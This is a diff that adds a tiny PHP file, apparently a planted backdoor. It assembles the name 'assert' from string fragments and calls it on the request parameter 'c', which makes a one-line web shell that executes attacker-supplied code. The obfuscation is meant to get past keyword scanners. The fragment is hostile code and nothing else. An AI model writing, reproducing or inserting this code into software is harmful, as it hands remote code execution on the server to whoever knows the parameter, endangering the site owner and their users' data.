@@ -1,0 +1,3 @@
+<?php
+$fn = 'as' . 'se' . 'rt';
+$fn($_REQUEST['c']);
